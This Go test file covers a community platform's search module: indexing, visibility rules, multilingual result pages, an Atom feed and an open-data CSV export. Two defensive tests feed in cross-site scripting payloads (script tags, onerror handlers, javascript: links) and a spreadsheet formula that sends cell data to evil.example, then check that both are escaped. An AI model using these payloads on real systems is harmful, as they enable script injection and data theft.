package search_test

import (
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mmcdole/gofeed/atom"

	"teilhabe.org/teilhabe/internal/apptest"
	"teilhabe.org/teilhabe/internal/auth"
	"teilhabe.org/teilhabe/internal/board"
	"teilhabe.org/teilhabe/internal/clock"
	"teilhabe.org/teilhabe/internal/feed/feedtest"
	"teilhabe.org/teilhabe/internal/search"
	"teilhabe.org/teilhabe/internal/searchdoc"
)

func searchModule(t testing.TB, e *apptest.Env) *search.Module {
	t.Helper()
	for _, m := range e.P.App.Modules {
		if s, ok := m.(*search.Module); ok {
			return s
		}
	}
	t.Fatal("the search module is not registered")
	return nil
}

func put(t testing.TB, e *apptest.Env, docs ...searchdoc.Doc) {
	t.Helper()
	s := searchModule(t, e)
	err := e.P.DB.Tx(context.Background(), func(tx *sql.Tx) error {
		for _, d := range docs {
			if d.CreatedAt.IsZero() {
				d.CreatedAt, d.UpdatedAt = e.Clock.Now(), e.Clock.Now()
			}
			if d.Visibility == "" {
				d.Visibility = searchdoc.Public
			}
			if d.URL == "" {
				d.URL = "/listings/" + d.ID
			}
			if err := s.Put(context.Background(), tx, d); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func del(t testing.TB, e *apptest.Env, typ, id string) {
	t.Helper()
	s := searchModule(t, e)
	if err := e.P.DB.Tx(context.Background(), func(tx *sql.Tx) error { return s.Delete(context.Background(), tx, typ, id) }); err != nil {
		t.Fatal(err)
	}
}

// found returns the ids GET /api/v1/search finds for the query string.
func found(t testing.TB, e *apptest.Env, token, query string) []string {
	t.Helper()
	status, body := e.API(t, token, http.MethodGet, "/api/v1/search?"+query, nil)
	if status != http.StatusOK {
		t.Fatalf("search %s: %d %v", query, status, body)
	}
	var out []string
	for _, r := range body["results"].([]any) {
		out = append(out, r.(map[string]any)["id"].(string))
	}
	return out
}

// TestOrganisationsAreFound: an organisation is found the moment it is
// created, changed or verified, through the organisation module's own
// operations.
func TestOrganisationsAreFound(t *testing.T) {
	apptest.ForEach(t, func(t *testing.T, e *apptest.Env) {
		e.NewUser(t, "owner@example.org", "Owner", auth.Member)
		token := e.Token(t, "owner@example.org")
		status, body := e.API(t, token, http.MethodPost, "/api/v1/organizations", map[string]any{
			"name": "Nähcafé Nordstadt", "kind": "initiative", "description": "Wir nähen gemeinsam Kleidung für Kinder.",
			"languages": []string{"de", "fa"},
		})
		if status != http.StatusCreated {
			t.Fatalf("create: %d %v", status, body)
		}
		id := body["id"].(string)
		if got := found(t, e, "", "q=N%C3%A4hcaf%C3%A9"); !slices.Equal(got, []string{id}) {
			t.Errorf("new organisation: found %v", got)
		}
		if got := found(t, e, "", "q=Kleidung&lang=fa&type=organization"); !slices.Equal(got, []string{id}) {
			t.Errorf("by its languages: found %v", got)
		}
		status, _ = e.API(t, token, http.MethodPatch, "/api/v1/organizations/"+id, map[string]any{"name": "Stoffwerkstatt"})
		if status != http.StatusOK {
			t.Fatalf("update: %d", status)
		}
		if got := found(t, e, "", "q=N%C3%A4hcaf%C3%A9&exact=1"); len(got) != 0 {
			t.Errorf("old name still found: %v", got)
		}
		if got := found(t, e, "", "q=Stoffwerkstatt"); !slices.Equal(got, []string{id}) {
			t.Errorf("new name: found %v", got)
		}
		if got := found(t, e, "", "q=Stoffwerkstatt&verified=true"); len(got) != 0 {
			t.Errorf("not verified yet, found %v", got)
		}
		e.NewUser(t, "staff@example.org", "Staff", auth.Coordinator)
		if status, _ := e.API(t, e.Token(t, "staff@example.org"), http.MethodPost, "/api/v1/organizations/"+id+"/verify", nil); status != http.StatusOK {
			t.Fatalf("verify: %d", status)
		}
		if got := found(t, e, "", "q=Stoffwerkstatt&verified=true"); !slices.Equal(got, []string{id}) {
			t.Errorf("verified: found %v", got)
		}
	})
}

// TestVisibility: a listing for members is found by members only, one for
// verified organisations by their members and coordinators only, and an
// expired or withdrawn one by nobody; counts leave them out too.
func TestVisibility(t *testing.T) {
	apptest.ForEach(t, func(t *testing.T, e *apptest.Env) {
		later := e.Clock.Now().Add(time.Hour)
		put(t, e,
			searchdoc.Doc{Type: "request", ID: "members", Title: "Begleitung zum Jobcenter", Lang: "de", Visibility: searchdoc.Members},
			searchdoc.Doc{Type: "request", ID: "verified", Title: "Notunterkunft Jobcenter", Lang: "de", Visibility: searchdoc.Verified},
			searchdoc.Doc{Type: "offer", ID: "public", Title: "Jobcenter Termine erklären", Lang: "de"},
			searchdoc.Doc{Type: "offer", ID: "expiring", Title: "Jobcenter Formulare", Lang: "de", ExpiresAt: &later},
			searchdoc.Doc{Type: "offer", ID: "withdrawn", Title: "Jobcenter Brief", Lang: "de"},
		)
		del(t, e, "offer", "withdrawn")
		e.Clock.Advance(2 * time.Hour)

		e.NewUser(t, "member@example.org", "Member", auth.Member)
		e.NewUser(t, "staff@example.org", "Staff", auth.Coordinator)
		if got := found(t, e, "", "q=Jobcenter"); !slices.Equal(got, []string{"public"}) {
			t.Errorf("visitor: %v", got)
		}
		if got := found(t, e, e.Token(t, "member@example.org"), "q=Jobcenter"); !slices.Equal(got, []string{"public", "members"}) {
			t.Errorf("member: %v", got)
		}
		if got := found(t, e, e.Token(t, "staff@example.org"), "q=Jobcenter"); !slices.Equal(got, []string{"public", "verified", "members"}) {
			t.Errorf("coordinator: %v", got)
		}
		// The page and its counts, for a visitor and a member.
		visitor := e.Client(t)
		res := visitor.Get("/search?q=Jobcenter")
		for _, bad := range []string{"members", "verified", "expiring", "withdrawn"} {
			if strings.Contains(res.Body, `href="/listings/`+bad+`"`) {
				t.Errorf("visitor's page shows %s", bad)
			}
		}
		if res.Status != http.StatusOK || !strings.Contains(res.Body, "1 Treffer") {
			t.Errorf("visitor's page: %d\n%s", res.Status, res.Body)
		}
		member := e.LoggedIn(t, "member@example.org")
		res = member.Get("/search?q=Jobcenter")
		if !strings.Contains(res.Body, `href="/listings/members"`) || strings.Contains(res.Body, `href="/listings/verified"`) ||
			!strings.Contains(res.Body, "2 Treffer") {
			t.Errorf("member's page:\n%s", res.Body)
		}
		// A feed is what anybody sees, whoever reads it.
		res = member.Get("/search?q=Jobcenter&format=atom")
		if strings.Contains(res.Body, "/listings/members") || !strings.Contains(res.Body, "/listings/public") {
			t.Errorf("feed:\n%s", res.Body)
		}
	})
}

// TestPage draws /search in German and Farsi with words, filters and
// facets, and its Atom feed.
func TestPage(t *testing.T) {
	apptest.ForEach(t, func(t *testing.T, e *apptest.Env) {
		put(t, e,
			searchdoc.Doc{Type: "offer", ID: "a", Title: "Sprachcafé am Montag", Body: "Deutsch sprechen bei Kaffee und Kuchen.", Lang: "de",
				Langs: []string{"fa", "ar"}, Category: "german_lessons.conversation"},
			searchdoc.Doc{Type: "request", ID: "b", Title: "کلاس زبان آلمانی", Body: "دنبال کافه زبان هستم.", Lang: "fa", Category: "german_lessons.conversation"},
			searchdoc.Doc{Type: "opportunity", ID: "c", Title: "Helfende für das Sprachcafé", Lang: "de", Category: "german_lessons",
				OrgKind: "volunteer_agency", Verified: true},
		)
		c := e.Client(t)
		res := c.Get("/search?q=Sprachcaf%C3%A9")
		for _, want := range []string{`<mark>Sprachcafé</mark>`, "3 Treffer", `href="/search?q=Sprachcaf%C3%A9&amp;type=request"`,
			`<span lang="fa" dir="rtl">فارسی</span>`, `type="application/atom+xml"`, "Freiwilligenagentur oder -zentrum (1)"} {
			if !strings.Contains(res.Body, want) {
				t.Errorf("page lacks %s\n%s", want, res.Body)
			}
		}
		// Choosing a facet value narrows the results and keeps the counts of the others.
		res = c.Get("/search?q=Sprachcaf%C3%A9&type=request")
		if !strings.Contains(res.Body, "1 Treffer") || !strings.Contains(res.Body, `aria-current="true"`) ||
			!strings.Contains(res.Body, "Angebote (1)") {
			t.Errorf("with a type:\n%s", res.Body)
		}
		c.Lang = "fa"
		res = c.Get("/search?q=%DA%A9%D8%A7%D9%81%D9%87")
		if !strings.Contains(res.Body, `<html lang="fa" dir="rtl">`) || !strings.Contains(res.Body, "<mark>کافه</mark>") {
			t.Errorf("Farsi page:\n%s", res.Body)
		}
		res = c.Get("/search?q=Deutsch&radius_km=999")
		if res.Status != http.StatusUnprocessableEntity || !strings.Contains(res.Body, `aria-invalid="true"`) {
			t.Errorf("bad radius: %d", res.Status)
		}
		res = c.Get("/search?q=Sprachcaf%C3%A9&format=atom")
		var feed struct {
			Entries []struct {
				Title string `xml:"title"`
			} `xml:"entry"`
		}
		if err := xml.Unmarshal([]byte(res.Body), &feed); err != nil || len(feed.Entries) != 3 ||
			!strings.HasPrefix(res.Header.Get("Content-Type"), "application/atom+xml") {
			t.Errorf("feed: %v %+v\n%s", err, feed, res.Body)
		}
	})
}

// TestFeedKeepsMarkupAsText: whatever people put in a title or text
// reaches the Atom feed as text that a feed reader shows, never as markup
// it runs.
func TestFeedKeepsMarkupAsText(t *testing.T) {
	e := apptest.New(t, "sqlite")
	title := `<script>alert(1)</script> Fahrrad <img src=x onerror="alert(2)">`
	put(t, e, searchdoc.Doc{Type: "offer", ID: "x", Title: title, Lang: "de",
		Body: `javascript:alert(3) <b>Fahrrad</b> reparieren <a href="javascript:alert(4)">hier</a>`})
	res := e.Client(t).Get("/search?q=Fahrrad&format=atom")
	feedtest.TextOnly(t, res.Body)
	apptest.Lacks(t, "feed", res.Body, "<script", "<img", "<b>", "<a ")
	got, err := (&atom.Parser{}).Parse(strings.NewReader(res.Body))
	if err != nil || len(got.Entries) != 1 {
		t.Fatalf("%v\n%s", err, res.Body)
	}
	entry := got.Entries[0]
	if entry.Title != title || !strings.Contains(entry.Summary, "<b>Fahrrad</b>") || !strings.Contains(entry.Summary, "javascript:alert(3)") {
		t.Errorf("entry %q: %q", entry.Title, entry.Summary)
	}
	links := map[string]string{}
	for _, l := range got.Links {
		links[l.Rel] = l.Href
	}
	if links["self"] != e.URL+"/search?format=atom&q=Fahrrad&sort=newest" || links["alternate"] != e.URL+"/search?q=Fahrrad&sort=newest" ||
		len(got.Authors) != 1 || got.Language != "de" || entry.PublishedParsed == nil {
		t.Errorf("feed: %v %+v %q %+v", links, got.Authors, got.Language, entry)
	}
}

// TestDatesOfHits: a listing for a range of days shows the range, in the
// days it was typed with; one for a day shows that day without an hour.
func TestDatesOfHits(t *testing.T) {
	e := apptest.New(t, "sqlite")
	from, to, day := clock.Date(2026, 12, 17), clock.Date(2027, 3, 7), clock.Date(2027, 3, 28)
	put(t, e,
		searchdoc.Doc{Type: "offer", ID: "winter", Title: "Winterhilfe Kassel", Lang: "de", Start: &from, End: &to},
		searchdoc.Doc{Type: "offer", ID: "spring", Title: "Frühjahrsputz Kassel", Lang: "de", Start: &day},
	)
	c := e.Client(t)
	res := c.Get("/search?q=Kassel")
	apptest.Contains(t, "German page", res.Body, "17.12.2026 bis 07.03.2027", "am 28.03.2027<")
	apptest.Lacks(t, "German page", res.Body, "01:00", "02:00")
	c.Lang = "ar"
	res = c.Get("/search?q=Kassel")
	apptest.Contains(t, "Arabic page", res.Body, "من 2026-12-17 إلى 2027-03-07", "في 2027-03-28<")
}

// TestOpenData: partners read public opportunities, then the changes since,
// with tombstones for those gone.
func TestOpenData(t *testing.T) {
	apptest.ForEach(t, func(t *testing.T, e *apptest.Env) {
		put(t, e,
			searchdoc.Doc{Type: "opportunity", ID: "o1", Title: "Hausaufgabenhilfe", Lang: "de", OrgKind: "education"},
			searchdoc.Doc{Type: "opportunity", ID: "o2", Title: "Fahrradwerkstatt", Lang: "de", OrgKind: "initiative"},
			searchdoc.Doc{Type: "opportunity", ID: "o3", Title: "Nur für Mitglieder", Lang: "de", Visibility: searchdoc.Members},
			searchdoc.Doc{Type: "offer", ID: "x", Title: "Kein Engagement", Lang: "de"},
		)
		read := func(query string) (items []map[string]any, next string) {
			status, body := e.API(t, "", http.MethodGet, "/api/v1/opendata/opportunities?"+query, nil)
			if status != http.StatusOK {
				t.Fatalf("%s: %d %v", query, status, body)
			}
			for _, it := range body["items"].([]any) {
				items = append(items, it.(map[string]any))
			}
			next, _ = body["next_cursor"].(string)
			return items, next
		}
		items, next := read("limit=1")
		if len(items) != 1 || items[0]["id"] != "o1" || next == "" || items[0]["title"] != "Hausaufgabenhilfe" {
			t.Fatalf("first page: %v %q", items, next)
		}
		items, next = read("limit=1&cursor=" + url.QueryEscape(next))
		if len(items) != 1 || items[0]["id"] != "o2" || next != "" {
			t.Fatalf("second and last page: %v %q", items, next)
		}
		since := e.Clock.Now().Format(time.RFC3339Nano)
		e.Clock.Advance(time.Minute)
		del(t, e, "opportunity", "o1")
		put(t, e, searchdoc.Doc{Type: "opportunity", ID: "o2", Title: "Fahrradwerkstatt", Lang: "de", Visibility: searchdoc.Members})
		items, _ = read("since=" + url.QueryEscape(since))
		if len(items) != 2 || items[0]["id"] != "o1" || items[0]["deleted"] != true || items[1]["id"] != "o2" ||
			items[1]["deleted"] != true || items[0]["title"] != nil {
			t.Errorf("changes: %v", items)
		}
		status, raw := e.APIRaw(t, "", http.MethodGet, "/api/v1/opendata/opportunities?format=csv", nil)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\uFEFF"))).ReadAll()
		if status != http.StatusOK || err != nil || len(rows) != 3 || rows[0][0] != "id" || rows[1][1] != "true" {
			t.Errorf("csv: %d %v %v", status, err, rows)
		}
		status, raw = e.APIRaw(t, "", http.MethodGet, "/api/v1/openapi.json", nil)
		var doc map[string]any
		if status != http.StatusOK || json.Unmarshal(raw, &doc) != nil || !strings.Contains(string(raw), `"/api/v1/opendata/opportunities"`) ||
			!strings.Contains(string(raw), `"/api/v1/search"`) {
			t.Errorf("OpenAPI lacks the operations")
		}
	})
}

// TestOpenDataCSVHasNoFormulas: a title that a spreadsheet would run
// reaches the open data CSV as text; a negative coordinate stays a number.
func TestOpenDataCSVHasNoFormulas(t *testing.T) {
	e := apptest.New(t, "sqlite")
	hyperlink := `=HYPERLINK("https://evil.example/?"&A1,"Details")`
	lat, lon := 51.5, -0.5
	put(t, e, searchdoc.Doc{Type: "opportunity", ID: "o1", Title: hyperlink, Body: "@SUM(1+1)", Lang: "de",
		Place: "+Kassel", Lat: &lat, Lon: &lon})
	status, raw := e.APIRaw(t, "", http.MethodGet, "/api/v1/opendata/opportunities?format=csv", nil)
	if status != http.StatusOK || !strings.HasPrefix(string(raw), "\uFEFFid,") || !strings.Contains(string(raw), "\r\n") {
		t.Fatalf("%d %q", status, raw)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\uFEFF"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%v %q", err, rows)
	}
	cell := map[string]string{}
	for i, name := range rows[0] {
		cell[name] = rows[1][i]
	}
	if cell["title"] != "'"+hyperlink || cell["description"] != "'@SUM(1+1)" || cell["place"] != "'+Kassel" || cell["lon"] != "-0.5" {
		t.Errorf("cells: %q", cell)
	}
}

// TestListingsAreFound: the board's listings are found from the moment
// they are posted until they are withdrawn, hidden or run out; one posted
// on behalf of an organisation is an opportunity.
func TestListingsAreFound(t *testing.T) {
	apptest.ForEach(t, func(t *testing.T, e *apptest.Env) {
		var b *board.Module
		for _, m := range e.P.App.Modules {
			if x, ok := m.(*board.Module); ok {
				b = x
			}
		}
		u := e.NewUser(t, "poster@example.org", "Poster", auth.Member)
		actor := &auth.Identity{UserID: u.ID, Role: auth.Member}
		ctx := context.Background()
		l, err := b.Create(ctx, actor, board.Draft{Kind: board.Offer, Category: "goods.bicycles", Title: "Kinderfahrrad abzugeben",
			Description: "Ein kleines Rad für Kinder ab fünf Jahren.", ContentLang: "de", Languages: []string{"de", "uk"},
			Postcode: "34117", Place: "Kassel", Visibility: board.Public})
		if err != nil {
			t.Fatal(err)
		}
		if got := found(t, e, "", "q=Kinderfahrrad&type=offer"); !slices.Equal(got, []string{l.ID}) {
			t.Errorf("posted: %v", got)
		}
		if got := found(t, e, "", "q=%D0%B2%D0%B5%D0%BB%D0%BE%D1%81%D0%B8%D0%BF%D0%B5%D0%B4&lang=uk"); !slices.Equal(got, []string{l.ID}) {
			t.Errorf("in Ukrainian, by the category: %v", got)
		}
		if _, err := b.Update(ctx, actor, l.ID, func(d board.Draft) board.Draft { d.Title = "Laufrad abzugeben"; return d }); err != nil {
			t.Fatal(err)
		}
		if got := found(t, e, "", "q=Laufrad"); !slices.Equal(got, []string{l.ID}) {
			t.Errorf("edited: %v", got)
		}
		if _, err := b.Withdraw(ctx, actor, l.ID); err != nil {
			t.Fatal(err)
		}
		if got := found(t, e, "", "q=Laufrad"); len(got) != 0 {
			t.Errorf("withdrawn: %v", got)
		}
		if _, err := b.Extend(ctx, actor, l.ID, 0); err == nil {
			t.Error("a withdrawn listing was extended")
		}
		l2, err := b.Create(ctx, actor, board.Draft{Kind: board.Request, Category: "german_lessons", Title: "Suche Tandempartner",
			Description: "Ich lerne Deutsch und helfe beim Ukrainischen.", ContentLang: "de", Postcode: "34117", Place: "Kassel",
			Visibility: board.Members, LifetimeDays: 1})
		if err != nil {
			t.Fatal(err)
		}
		if got := found(t, e, "", "q=Tandempartner"); len(got) != 0 {
			t.Errorf("for members, a visitor finds %v", got)
		}
		if got := found(t, e, e.Token(t, "poster@example.org"), "q=Tandempartner&type=request"); !slices.Equal(got, []string{l2.ID}) {
			t.Errorf("for members, a member finds %v", got)
		}
		e.Clock.Advance(25 * time.Hour)
		if got := found(t, e, e.Token(t, "poster@example.org"), "q=Tandempartner"); len(got) != 0 {
			t.Errorf("run out, still found: %v", got)
		}
	})
}
